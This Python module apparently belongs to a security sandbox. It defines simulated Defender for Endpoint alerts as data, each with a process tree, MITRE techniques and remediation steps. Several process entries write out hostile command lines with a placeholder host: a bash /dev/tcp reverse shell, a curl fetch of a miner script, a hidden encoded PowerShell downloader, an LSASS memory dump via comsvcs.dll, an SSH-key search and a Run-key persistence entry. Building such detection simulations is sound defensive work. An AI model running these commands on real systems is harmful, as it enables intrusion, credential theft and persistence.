"""What Defender finds: believable stories, told by Defender for Endpoint in its own words."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

from sandbox.world.model import OsType

Severity = Literal["Informational", "Low", "Medium", "High"]


@dataclass(frozen=True, slots=True)
class Process:
    """One process of a tree; each is the child of the one before it."""

    path: str
    command: str


@dataclass(frozen=True, slots=True)
class Story:
    """A detection; `{account}` and `{source}` are filled in when it happens."""

    key: str
    os_type: OsType
    severity: Severity
    title: str
    description: str
    intent: str
    #: The name that Defender gives the kind of detection.
    alert_type: str
    category: str
    techniques: tuple[str, ...]
    processes: tuple[Process, ...]
    files: tuple[str, ...]
    remediation: tuple[str, ...]


_COLLECT = "Collect the process tree and the files named here before anything is deleted."
_RESET = "Reset the password of {account} and end its sessions."
_ISOLATE = "Isolate the machine if the activity is not expected."

_BASH = Process("/usr/bin/bash", "-bash")
_SSHD = Process("/usr/sbin/sshd", "sshd: {account}@pts/0")
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"

REVERSE_SHELL = Story(
    "reverse_shell", "Linux", "High", "Suspicious reverse shell",
    "A shell on {machine} connected its input and output to {source}. Attackers use this to keep "
    "control of a machine from outside.",
    "Execution", "ReverseShell", "Execution", ("T1059", "T1059.004"),
    (_SSHD, _BASH, Process("/usr/bin/bash", "bash -i >& /dev/tcp/{source}/4444 0>&1")),
    ("/tmp/.x11/agent.sh",),  # noqa: S108 what an attacker writes
    (_COLLECT, _RESET, _ISOLATE),
)  # fmt: skip

MINER = Story(
    "miner", "Linux", "Medium", "Possible cryptocoinminer",
    "A process on {machine} behaves like a digital currency miner and talks to {source}.",
    "Impact", "CryptoCoinMiner", "Malware", ("T1496",),
    (_BASH, Process("/usr/bin/curl", "curl -s http://{source}/x.sh"),
     Process("/var/tmp/kworkerds", "/var/tmp/kworkerds -o {source}:3333")),  # noqa: S108
    ("/var/tmp/kworkerds", "/etc/cron.d/kworkerds"),  # noqa: S108
    ("Stop the process and remove its scheduled task.", _COLLECT),
)  # fmt: skip

ENUMERATION = Story(
    "enumeration", "Linux", "Low", "Enumeration of files with sensitive data",
    "A process on {machine} searched for files that often hold passwords or keys.",
    "Discovery", "SensitiveFileEnumeration", "Discovery", ("T1083",),
    (_SSHD, _BASH, Process("/usr/bin/find", "find / -name id_rsa -o -name '*.pem'")),
    ("/home/{account}/.ssh/id_rsa",),
    ("Ask {account} whether this was wanted.", _COLLECT),
)  # fmt: skip

EICAR = Story(
    "eicar", "Linux", "Informational", "'EICAR_Test_File' malware was prevented",
    "Malware was found on {machine} and stopped before it ran.",
    "Execution", "WindowsDefenderAv", "Malware", ("T1204",),
    (_BASH, Process("/usr/bin/curl", "curl -O https://secure.eicar.org/eicar.com.txt")),
    ("/home/{account}/eicar.com.txt",),
    ("No further action is needed.",),
)  # fmt: skip

POWERSHELL = Story(
    "powershell", "Windows", "High", "Suspicious PowerShell command line",
    "PowerShell on {machine} was started with a hidden window and an encoded command that "
    "downloads and runs code from {source}.",
    "Execution", "SuspiciousPowerShell", "Execution", ("T1059", "T1059.001"),
    (Process("C:\\Windows\\explorer.exe", "explorer.exe"),
     Process("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c C:\\Users\\Public\\update.bat"),
     Process(_POWERSHELL, "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")),
    ("C:\\Users\\Public\\update.bat",),
    (_COLLECT, _RESET, _ISOLATE),
)  # fmt: skip

LSASS = Story(
    "lsass", "Windows", "High", "Possible credential dumping from LSASS memory",
    "A process on {machine} read the memory in which Windows keeps credentials. {account} may be "
    "used elsewhere soon.",
    "CredentialAccess", "CredentialDumping", "CredentialAccess", ("T1003", "T1003.001"),
    (Process("C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
     Process("C:\\Windows\\System32\\rundll32.exe",
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full")),
    ("C:\\Temp\\l.dmp",),
    (_RESET, _COLLECT, _ISOLATE),
)  # fmt: skip

INVOICE = Story(
    "invoice", "Windows", "Informational", "Suspicious PowerShell CommandLine",
    "PowerShell on {machine} downloaded and started a file: the detection test of Defender for "
    "Endpoint looks like this.",
    "Execution", "WindowsDefenderAtpTest", "Execution", ("T1059.001",),
    (Process("C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
     Process(_POWERSHELL, "powershell.exe -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden")),
    ("C:\\test-MDATP-test\\invoice.exe",),
    ("No further action is needed.",),
)  # fmt: skip

RUN_KEY = Story(
    "run_key", "Windows", "Medium", "Anomaly detected in ASEP registry",
    "A process on {machine} wrote a registry key that starts a program at every sign-in.",
    "Persistence", "AsepRegistryAnomaly", "Persistence", ("T1547", "T1547.001"),
    (Process("C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
     Process("C:\\Windows\\System32\\reg.exe",
             "reg.exe add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater")),
    ("C:\\Temp\\u.exe",),
    ("Remove the value if nobody knows it.", _COLLECT),
)  # fmt: skip

STORIES = {
    story.key: story
    for story in (
        REVERSE_SHELL, MINER, ENUMERATION, EICAR, POWERSHELL, LSASS, INVOICE, RUN_KEY,
    )
}  # fmt: skip


def stories_for(os_type: OsType) -> tuple[Story, ...]:
    """What may happen on such a machine, gravest first."""
    return tuple(story for story in STORIES.values() if story.os_type == os_type)


def test_story(os_type: OsType) -> Story:
    """What Microsoft's own detection test brings about."""
    return INVOICE if os_type == "Windows" else EICAR
